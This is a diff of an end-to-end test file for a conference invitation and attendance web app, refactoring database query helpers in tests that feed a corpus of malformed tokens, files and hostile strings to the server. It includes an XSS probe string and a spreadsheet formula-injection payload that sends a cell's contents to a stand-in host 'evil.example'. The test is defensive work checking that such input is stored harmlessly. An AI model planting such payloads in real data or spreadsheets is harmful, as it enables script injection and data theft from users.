@@ -1,4 +1,4 @@
-import { writerForSetup } from "@/db/client";
+import { returnedRow, firstRow, writerForSetup } from "@/db/client";
 /**
  * The bad-input corpus (e2e/corpus, committed), against the running server: malformed and
  * oversized requests, tokens of every broken shape, files that are mis-encoded, truncated,
@@ -37,7 +37,7 @@ test.describe("the bad-input corpus", () => {
   test("broken tokens at the door: a verdict each, logged, nobody let in", async ({ page }) => {
     const { site } = await practiceConference();
     await signIn(page, "diemdanh");
-    const before = (await (await e2eDb()).select({ n: count() }).from(scanLog).where(eq(scanLog.deviceId, "may-hong")).get())!.n;
+    const before = (await firstRow((await e2eDb()).select({ n: count() }).from(scanLog).where(eq(scanLog.deviceId, "may-hong"))))!.n;
     const tokens = read<string[]>("tokens.json");
     let logged = 0;
     for (const [i, token] of tokens.entries()) {
@@ -54,13 +54,12 @@ test.describe("the bad-input corpus", () => {
       logged++;
     }
     expect(
-      (await (
-        await e2eDb()
-      )
-        .select({ n: count() })
-        .from(scanLog)
-        .where(and(eq(scanLog.deviceId, "may-hong"), inArray(scanLog.verdict, ["unknown", "bad_signature"])))
-        .get())!.n - before,
+      (await firstRow(
+        (await e2eDb())
+          .select({ n: count() })
+          .from(scanLog)
+          .where(and(eq(scanLog.deviceId, "may-hong"), inArray(scanLog.verdict, ["unknown", "bad_signature"]))),
+      ))!.n - before,
     ).toBe(logged);
   });
 
@@ -71,13 +70,14 @@ test.describe("the bad-input corpus", () => {
     await signIn(page, "admin");
     const db = await e2eDb();
     const code = `bi${process.pid}${Date.now() % 100000}`;
-    const province = (await db.select().from(units).where(eq(units.code, "51")).get())!;
-    const unit = await writerForSetup(db)
-      .insert(units)
-      .values({ code, name: `Đơn vị dữ liệu xấu ${code}`, kind: await testUnitKind(), placeName: "Thử", parentId: province.id, sortOrder: 997 })
-      .returning()
-      .get();
-    const peopleIn = async () => (await db.select({ n: count() }).from(people).where(eq(people.unitId, unit.id)).get())!.n;
+    const province = (await firstRow(db.select().from(units).where(eq(units.code, "51"))))!;
+    const unit = await returnedRow(
+      writerForSetup(db)
+        .insert(units)
+        .values({ code, name: `Đơn vị dữ liệu xấu ${code}`, kind: await testUnitKind(), placeName: "Thử", parentId: province.id, sortOrder: 997 })
+        .returning(),
+    );
+    const peopleIn = async () => (await firstRow(db.select({ n: count() }).from(people).where(eq(people.unitId, unit.id))))!.n;
     const expectations = read<Record<string, { expect: "refused" | "accepted"; rows?: number; message?: string }>>("files.json");
     const upload = (name: string, buffer: Buffer) =>
       page.request.post("/api/people/import", {
@@ -105,47 +105,44 @@ test.describe("the bad-input corpus", () => {
     expect([400, 413]).toContain(huge.status());
     expect((await huge.json()).message).toBeTruthy();
     // A refused file keeps no batch either: only the accepted files' batches exist.
-    expect((await db.select({ n: count() }).from(importBatches).where(eq(importBatches.unitId, unit.id)).get())!.n).toBe(
+    expect((await firstRow(db.select({ n: count() }).from(importBatches).where(eq(importBatches.unitId, unit.id))))!.n).toBe(
       Object.values(expectations).filter((w) => w.expect === "accepted").length,
     );
-    const stored = await db.select().from(people).where(eq(people.unitId, unit.id)).all();
+    const stored = await db.select().from(people).where(eq(people.unitId, unit.id));
     expect(stored).toHaveLength(Object.values(expectations).reduce((n, w) => n + (w.expect === "accepted" ? (w.rows ?? 0) : 0), 0));
     expect(stored.map((p) => p.fullName)).toEqual(expect.arrayContaining(["<script>alert(1)</script>", '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")']));
     const before = await peopleIn();
 
     // The hostile strings as conference text too, then everyone invited and shown.
     const strings = read<string[]>("strings.json");
-    const body = await writerForSetup(db).insert(bodies).values({ unitId: unit.id, kind: "propaganda", name: strings[0], symbol: "XSS" }).returning().get();
-    const campaign = (await db.select().from(campaigns).get())!;
-    const conference = await writerForSetup(db)
-      .insert(conferences)
-      .values({
-        campaignId: campaign.id,
-        unitId: unit.id,
-        bodyId: body.id,
-        title: `Hội nghị ${strings[1]}`,
-        startsAt: new Date(Date.now() + 86_400_000),
-        endsAt: new Date(Date.now() + 90_000_000),
-        status: "scheduled",
-        agenda: strings[2],
-      })
-      .returning()
-      .get();
-    const site = await writerForSetup(db)
-      .insert(sites)
-      .values({ conferenceId: conference.id, unitId: unit.id, isMain: true, venue: strings[3] })
-      .returning()
-      .get();
+    const body = await returnedRow(
+      writerForSetup(db).insert(bodies).values({ unitId: unit.id, kind: "propaganda", name: strings[0], symbol: "XSS" }).returning(),
+    );
+    const campaign = (await firstRow(db.select().from(campaigns)))!;
+    const conference = await returnedRow(
+      writerForSetup(db)
+        .insert(conferences)
+        .values({
+          campaignId: campaign.id,
+          unitId: unit.id,
+          bodyId: body.id,
+          title: `Hội nghị ${strings[1]}`,
+          startsAt: new Date(Date.now() + 86_400_000),
+          endsAt: new Date(Date.now() + 90_000_000),
+          status: "scheduled",
+          agenda: strings[2],
+        })
+        .returning(),
+    );
+    const site = await returnedRow(
+      writerForSetup(db).insert(sites).values({ conferenceId: conference.id, unitId: unit.id, isMain: true, venue: strings[3] }).returning(),
+    );
     for (const text of strings)
-      await writerForSetup(db)
-        .insert(people)
-        .values({ fullName: text, searchName: text.toLowerCase(), position: text, workplace: text, unitId: unit.id })
-        .run();
-    for (const p of await db.select().from(people).where(eq(people.unitId, unit.id)).all()) {
+      await writerForSetup(db).insert(people).values({ fullName: text, searchName: text.toLowerCase(), position: text, workplace: text, unitId: unit.id });
+    for (const p of await db.select().from(people).where(eq(people.unitId, unit.id))) {
       await writerForSetup(db)
         .insert(invitations)
-        .values({ conferenceId: conference.id, personId: p.id, bodyId: body.id, siteId: site.id, status: "issued", letterNumber: "1-GM/XSS" })
-        .run();
+        .values({ conferenceId: conference.id, personId: p.id, bodyId: body.id, siteId: site.id, status: "issued", letterNumber: "1-GM/XSS" });
     }
     let dialogs = 0;
     page.on("dialog", async (d) => {
